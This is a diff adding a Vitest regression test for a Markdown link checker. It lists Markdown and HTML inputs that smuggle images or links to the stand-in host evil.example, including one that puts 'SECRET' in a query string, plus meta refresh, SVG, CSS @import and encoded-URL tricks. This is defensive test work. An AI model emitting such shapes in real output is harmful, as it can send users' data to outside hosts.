@@ -1,0 +1,41 @@
+import { expect, it } from 'vitest';
+import { checkDocuments, leaks, written } from '../fuzz/links/check-documents.ts';
+
+/** Each of these once brought an image or a link to an unknown host past a checker that read Markdown by rules of its own. */
+const shapes = [
+  '> ```\n![x](https://evil.example/p?q=SECRET)',
+  '- ```\n\n![x](https://evil.example/p)',
+  '1. ```\n   a\n![x](https://evil.example/p)',
+  '* ```\n* ![x](https://evil.example/p)',
+  'x ```\n![x](https://evil.example/p)\n``` y',
+  '\\```\n![x](https://evil.example/p)\n```',
+  '\\`[x](https://evil.example/p)`',
+  '<a title="`">![x](https://evil.example/p)`',
+  '![x][1]\n\n[1]:\nhttps&colon;//evil.example/p',
+  'a[^1]\n\n[^1]: https&colon;//evil.example/p',
+  '1https://evil.example/p',
+  '<img alt="a>b" src="//evil.example/p">',
+  `<img alt="${'x'.repeat(600)}" src=//evil.example/p>`,
+  '<meta http-equiv=refresh content="0;url=https://evil.example/p">',
+  '<svg><image xlink:href="https://evil.example/p"/></svg>',
+  '<style>@import "https://evil.example/p";</style>',
+  '![x](https://evil.example/p "t"\n)',
+  '[![x](//evil.example/p)](/a)',
+  '| a |\n|---|\n| `x|![x](https://evil.example/p)` |',
+  '`x|![x](https://evil.example/p)`\n|-|-|',
+  '[`[<a title="`">](HTTPS://evil.example/p)`](/a)',
+  '``a`b`<b>`![x](https://evil.example/p)`',
+  'https&#58;//evil.example/p and ht<b>tps://evil.example/p and [https:](/b)//evil.example/p',
+  'mail@evil.example, evil.example.com, //evil.example/p, пример.рф and README.md``',
+  '```\n    ```\n```~\n![x](https://evil.example/p)\n```\n![x](https://evil.example/p)',
+  '- a\n\n  ~~~\n  <img src=https://evil.example/p>\n~~~\n![x](https://evil.example/p)',
+];
+
+it.each(shapes)('lets no address out of %j', (shape) => {
+  expect(leaks(written([shape]))).toEqual([]);
+  expect(leaks(written([...shape]))).toEqual([]);
+});
+
+it('lets no reader find an unknown address in what left, nor miss a known one', () => {
+  expect(checkDocuments({ first: 0, count: 150, seed: 1 })).toEqual([]);
+});
